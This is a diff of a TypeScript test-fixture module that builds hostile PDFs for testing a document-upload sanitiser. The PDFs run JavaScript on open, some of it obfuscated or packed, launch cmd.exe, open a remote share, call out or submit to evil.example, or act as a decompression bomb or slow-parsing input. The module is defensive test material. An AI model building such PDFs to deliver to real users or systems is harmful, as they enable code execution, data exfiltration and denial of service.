@@ -1,5 +1,7 @@
+import { buffer } from 'node:stream/consumers';
 import { deflateSync } from 'node:zlib';
-import { hostilePictures, type SentFile, SMUGGLED } from './hostile-pictures';
+import PDFDocument from 'pdfkit';
+import { hostilePictures, type HostileFile, SMUGGLED } from './hostile-pictures';
 
 const TYPE = 'application/pdf';
 
@@ -10,14 +12,28 @@ const stream = (head: string, content: Buffer): Buffer =>
     Buffer.from('\nendstream\n'),
   ]);
 
-/** A PDF of one page that says a word. @param more objects and entries of its catalogue */
-function aPdf(catalogue = '', ...objects: readonly (string | Buffer)[]): Buffer {
+interface PdfContent {
+  readonly pages?: number;
+  /** Further entries of the catalogue. */
+  readonly catalogue?: string;
+  /** Further objects: the first has the number 5. */
+  readonly objects?: readonly (string | Buffer)[];
+}
+
+const FONT = '/Resources <</Font <</F1 <</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>>>>>';
+
+/** A PDF whose pages each say a word. */
+export function aPdf({ pages = 1, catalogue = '', objects = [] }: PdfContent = {}): Buffer {
+  const page = `<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${FONT} /Contents 4 0 R>>\n`;
+  const others = Array.from({ length: Math.max(0, pages - 1) }, (_, at) => 5 + objects.length + at);
+  const kids = [...(pages > 0 ? [3] : []), ...others].map((number) => `${number} 0 R`).join(' ');
   const bodies: Buffer[] = [
     `<</Type /Catalog /Pages 2 0 R ${catalogue}>>\n`,
-    '<</Type /Pages /Kids [3 0 R] /Count 1>>\n',
-    '<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R>>\n',
+    `<</Type /Pages /Kids [${kids}] /Count ${pages}>>\n`,
+    page,
     stream('', Buffer.from('BT /F1 24 Tf 72 720 Td (Extrait Kbis) Tj ET')),
     ...objects,
+    ...others.map(() => page),
   ].map((body) => (typeof body === 'string' ? Buffer.from(body) : body));
   return Buffer.concat([
     Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1'),
@@ -26,12 +42,35 @@ function aPdf(catalogue = '', ...objects: readonly (string | Buffer)[]): Buffer 
   ]);
 }
 
+const withEntry = (catalogue: string, ...objects: readonly (string | Buffer)[]): Buffer =>
+  aPdf({ catalogue, objects });
+
+/** A PDF that is encrypted: with a password to open it, or to change it alone. */
+async function encrypted(options: { readonly userPassword?: string; readonly ownerPassword: string }) {
+  const pdf = new PDFDocument(options);
+  pdf.text('Extrait Kbis');
+  pdf.end();
+  return buffer(pdf);
+}
+
+/** The names that a PDF uses outside of its streams. */
+export const namesOfPdf = (pdf: Buffer): string[] => [
+  ...new Set(
+    [
+      ...pdf
+        .toString('latin1')
+        .replaceAll(/stream\r?\n[^]*?endstream/g, '')
+        .matchAll(/\/([^\s/<>[\]()]+)/g),
+    ].map(([, name = '']) => name),
+  ),
+];
+
 const RUN = `app.alert('${SMUGGLED}')`;
 const script = `<</S /JavaScript /JS (${RUN})>>\n`;
 const packed = (text: string, size = text.length): Buffer =>
   deflateSync(Buffer.concat([Buffer.from(text), Buffer.alloc(size - text.length, ' ')]));
 
-const file = (what: string, name: string, bytes: Buffer, isTaken = false): SentFile => ({
+const file = (what: string, name: string, bytes: Buffer, isTaken = false): HostileFile => ({
   what,
   name,
   type: TYPE,
@@ -39,53 +78,146 @@ const file = (what: string, name: string, bytes: Buffer, isTaken = false): SentF
   isPicture: isTaken,
 });
 
-function active(): SentFile[] {
-  const objects = (text: string, size?: number) =>
+const taken = (what: string, name: string, bytes: Buffer): HostileFile => file(what, name, bytes, true);
+
+/** Documents with a script, hidden more or less well: each is taken, and nothing of it but its page is kept. */
+function withScript(): HostileFile[] {
+  const packedObjects = (text: string, size?: number) =>
     stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed(`5 0 ${text}`, size));
   return [
-    file('a PDF that runs a script when it is opened', 'kbis.pdf', aPdf(`/OpenAction ${script}`)),
-    file('a PDF with scripts by name', 'names.pdf', aPdf('/Names <</JavaScript 5 0 R>>', script)),
-    file(
+    taken('a PDF that runs a script when it is opened', 'kbis.pdf', withEntry(`/OpenAction ${script}`)),
+    taken('a PDF with scripts by name', 'names.pdf', withEntry('/Names <</JavaScript 5 0 R>>', script)),
+    taken(
       'a PDF whose script is spelt otherwise',
       'spelt.pdf',
-      aPdf(`/OpenAction <</S /J#61va#53cript /JS (${RUN})>>`),
+      withEntry(`/OpenAction <</S /J#61va#53cript /JS (${RUN})>>`),
     ),
-    file(
+    taken(
       'a PDF with its script in a packed object',
       'packed.pdf',
-      aPdf('/OpenAction 5 0 R', objects(script)),
+      withEntry('/OpenAction 5 0 R', packedObjects(script)),
     ),
-    file(
+    taken(
+      'a PDF with its script in an object that is packed twice',
+      'twice.pdf',
+      withEntry(
+        '/OpenAction 5 0 R',
+        stream(
+          '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]',
+          deflateSync(packed(`5 0 ${script}`)),
+        ),
+      ),
+    ),
+    taken(
+      'a PDF with its script in hexadecimal, by a name that is spelt otherwise',
+      'hex.pdf',
+      withEntry(
+        '/OpenAction 5 0 R',
+        stream(
+          '/Type /Obj#53tm /N 1 /First 4 /Filter /ASCIIHexDecode',
+          Buffer.from(`${Buffer.from(`5 0 ${script}`).toString('hex')}>`),
+        ),
+      ),
+    ),
+    taken(
       'a PDF with packed objects that cannot be looked at',
       'odd.pdf',
-      aPdf('', stream('/Type /ObjStm /Filter /LZWDecode', Buffer.from([0x80, 1, 2, 3]))),
+      withEntry('', stream('/Type /ObjStm /Filter /LZWDecode', Buffer.from([0x80, 1, 2, 3]))),
     ),
-    file('a PDF with packed objects of forty megabytes', 'bomb.pdf', aPdf('', objects('<<>>', 40_000_000))),
-    file('a PDF that starts a program', 'launch.pdf', aPdf('/OpenAction <</S /Launch /F (cmd.exe)>>')),
-    file(
-      'a PDF that carries a file',
-      'carrier.pdf',
-      aPdf('/Names <</EmbeddedFiles 5 0 R>>', stream('/Type /EmbeddedFile', Buffer.from(SMUGGLED))),
+    taken(
+      'a PDF with packed objects of forty megabytes',
+      'bomb.pdf',
+      withEntry('', packedObjects('<<>>', 40_000_000)),
     ),
-    file('a PDF with a film', 'film.pdf', aPdf('', '<</Type /Annot /Subtype /RichMedia>>\n')),
-    file(
-      'a PDF with a form of XML',
-      'xfa.pdf',
-      aPdf('/AcroForm <</XFA 5 0 R>>', stream('', Buffer.from(`<xdp>${SMUGGLED}</xdp>`))),
-    ),
-    file(
-      'a PDF that sends itself',
-      'send.pdf',
-      aPdf('/OpenAction <</S /SubmitForm /F (https://evil.example)>>'),
-    ),
-    file('a PDF that opens another inside', 'inside.pdf', aPdf('/OpenAction <</S /GoToE /T <</R /C>>>>')),
-    file('a PDF that is locked', 'locked.pdf', aPdf('/Encrypt 5 0 R', '<</Filter /Standard /V 5>>\n')),
   ];
 }
 
-function broken(): SentFile[] {
+/** Documents that do something else than show something: each is taken, and nothing of it but its page is kept. */
+function withAction(): HostileFile[] {
+  return [
+    taken('a PDF that starts a program', 'launch.pdf', withEntry('/OpenAction <</S /Launch /F (cmd.exe)>>')),
+    taken(
+      'a PDF that opens another on a server of somebody',
+      'remote.pdf',
+      withEntry('/OpenAction <</S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit]>>'),
+    ),
+    taken(
+      'a PDF that asks for an address when it is opened',
+      'address.pdf',
+      withEntry(`/AA <</O <</S /URI /URI (https://evil.example/${SMUGGLED})>>>>`),
+    ),
+    taken(
+      'a PDF that carries a file',
+      'carrier.pdf',
+      withEntry('/Names <</EmbeddedFiles 5 0 R>>', stream('/Type /EmbeddedFile', Buffer.from(SMUGGLED))),
+    ),
+    taken('a PDF with a film', 'film.pdf', withEntry('', '<</Type /Annot /Subtype /RichMedia>>\n')),
+    taken(
+      'a PDF with a form of XML',
+      'xfa.pdf',
+      withEntry('/AcroForm <</XFA 5 0 R>>', stream('', Buffer.from(`<xdp>${SMUGGLED}</xdp>`))),
+    ),
+    taken(
+      'a PDF that sends itself',
+      'send.pdf',
+      withEntry('/OpenAction <</S /SubmitForm /F (https://evil.example)>>'),
+    ),
+    taken(
+      'a PDF that opens another inside',
+      'inside.pdf',
+      withEntry('/OpenAction <</S /GoToE /T <</R /C>>>>'),
+    ),
+  ];
+}
+
+/** Documents that cost whoever looks for words in them minutes. */
+function slow(): HostileFile[] {
+  const megabytes = (text: string, size: number) => Buffer.alloc(size * 1024 * 1024, text);
+  return [
+    file(
+      'a PDF of ten megabytes of letters that are spelt otherwise',
+      'spelt-letters.pdf',
+      withEntry('', Buffer.concat([Buffer.from('('), megabytes('#41', 9.9), Buffer.from(')\n')])),
+      true,
+    ),
+    file(
+      'a PDF of four hundred streams of one letter',
+      'streams.pdf',
+      withEntry(
+        '',
+        ...Array.from({ length: 400 }, () => stream('/Filter /FlateDecode', megabytes('e', 0.02))),
+      ),
+      true,
+    ),
+    file(
+      'a PDF of a million beginnings of a stream',
+      'beginnings.pdf',
+      withEntry('', Buffer.concat([megabytes('stream\n', 7), Buffer.from('\n')])),
+      true,
+    ),
+  ];
+}
+
+async function locked(): Promise<HostileFile[]> {
+  return [
+    file(
+      'a PDF that asks for a password',
+      'locked.pdf',
+      await encrypted({ userPassword: 'secret', ownerPassword: 'other' }),
+    ),
+    file(
+      'a PDF that may be read and not changed',
+      'protected.pdf',
+      await encrypted({ ownerPassword: 'other' }),
+      true,
+    ),
+  ];
+}
+
+function broken(): HostileFile[] {
   const pdf = aPdf();
   return [
+    file('a PDF without a page', 'empty.pdf', aPdf({ pages: 0 })),
     file('a PDF that was cut', 'cut.pdf', pdf.subarray(0, pdf.length >> 1)),
     file('a PDF behind a program', 'program.pdf', Buffer.concat([Buffer.from('MZ\x90\0'), pdf])),
     file(
@@ -101,14 +233,14 @@ function broken(): SentFile[] {
   ];
 }
 
-function disguised(): SentFile[] {
+function disguised(): HostileFile[] {
   const pdf = aPdf();
   return [
     file('a PDF that only shows something', 'honest.pdf', pdf, true),
     file(
       'a PDF with pictures that are packed',
       'scan.pdf',
-      aPdf('', stream('/Filter /FlateDecode', packed('', 3_000_000))),
+      withEntry('', stream('/Filter /FlateDecode', packed('', 3_000_000))),
       true,
     ),
     file(
@@ -129,12 +261,15 @@ function disguised(): SentFile[] {
 
 /**
  * Files that somebody sends as a proof: documents that do more than show something, and every hostile picture. `isPicture`
- * says whether one is taken, as a picture of ours or as a document that lies still.
+ * says whether one is taken: as pictures of its pages, or as a picture.
  */
-export async function hostileDocuments(): Promise<SentFile[]> {
+export async function hostileDocuments(): Promise<HostileFile[]> {
   const pictures = await hostilePictures();
   return [
-    ...active(),
+    ...withScript(),
+    ...withAction(),
+    ...slow(),
+    ...(await locked()),
     ...broken(),
     ...disguised(),
     // A phone's photograph and a scan are JPEG or PNG.
